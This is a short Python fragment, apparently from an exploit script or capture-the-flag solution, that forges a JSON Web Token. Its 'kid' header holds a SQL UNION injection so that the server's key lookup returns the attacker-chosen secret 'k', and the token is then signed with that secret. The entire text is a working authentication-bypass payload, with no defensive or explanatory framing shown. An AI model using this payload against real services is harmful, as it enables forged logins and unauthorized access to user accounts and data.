# a kid that nobody has, before the union
queried = forge({"alg": "HS256", "kid": "nobody' UNION SELECT 'k"}, wanted, secret=b"k")
